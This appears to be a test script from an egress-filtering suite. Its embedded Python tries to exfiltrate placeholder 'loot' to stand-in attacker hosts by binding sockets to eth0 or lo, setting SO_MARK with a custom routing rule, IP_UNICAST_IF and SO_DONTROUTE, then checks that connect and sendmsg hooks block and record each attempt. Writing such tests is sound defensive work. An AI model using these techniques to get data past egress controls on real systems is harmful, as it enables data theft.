#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: picks the way out by SO_BINDTODEVICE (eth0, lo), IP_UNICAST_IF, SO_MARK with a routing rule for it, and SO_DONTROUTE
# stopped-by: connect4, sendmsg4, sendmsg6
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000
# What a mark is for: a routing table of its own.
client ip rule add fwmark 7 lookup 77
client ip route add default via 192.0.2.1 table 77
client sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 # what goes to lo could come out again

attack_by <<'PYTHON'
from attacker import *

SO_MARK, SO_DONTROUTE, IP_UNICAST_IF = 36, 5, 50

def send(tag, target, *options):
    with attempt(tag):
        sock = udp(target)
        for option in options:
            sock.setsockopt(*option)
        sock.sendto(loot(tag), (target, 9000))

ETH0 = (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
LO = (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
MARK = (socket.SOL_SOCKET, SO_MARK, 7)
send("device4", EVIL4, ETH0)
send("device6", EVIL6, ETH0)
send("mark", EVIL4, MARK)
send("interface", EVIL4, (socket.SOL_IP, IP_UNICAST_IF, struct.pack("!I", socket.if_nametoindex("eth0"))))
send("lo4", EVIL4, LO)
send("lo6", EVIL6, LO)
with attempt("on the link"):
    sock = udp("192.0.2.1")
    sock.setsockopt(socket.SOL_SOCKET, SO_DONTROUTE, 1)
    sock.sendto(loot("link"), ("192.0.2.1", 9000))
with attempt("tcp"):
    sock = tcp(EVIL4)
    sock.setsockopt(*ETH0)
    sock.setsockopt(*MARK)
    sock.connect((EVIL4, 443))
    sock.sendall(loot("tcp"))
PYTHON
works stolen:device4 stolen:device6 stolen:mark stolen:interface stolen:link stolen:tcp
gate
stopped
recorded connect4 destination
recorded sendmsg4 destination
recorded sendmsg6 destination
